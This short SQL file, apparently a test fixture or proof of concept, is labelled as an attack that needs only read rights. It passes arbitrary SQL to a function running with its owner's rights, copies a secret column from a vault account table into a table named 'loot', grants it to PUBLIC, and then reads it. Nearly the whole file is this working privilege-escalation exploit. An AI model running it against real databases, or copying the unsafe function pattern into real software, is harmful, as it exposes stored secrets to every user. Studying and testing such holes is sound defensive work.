-- Gives a function with its owner's rights a text that makes a copy.
-- wants: read
-- attack:
SELECT run_as_keeper('CREATE TABLE loot AS SELECT secret FROM vlt_account; GRANT SELECT ON loot TO PUBLIC');
SELECT * FROM loot;
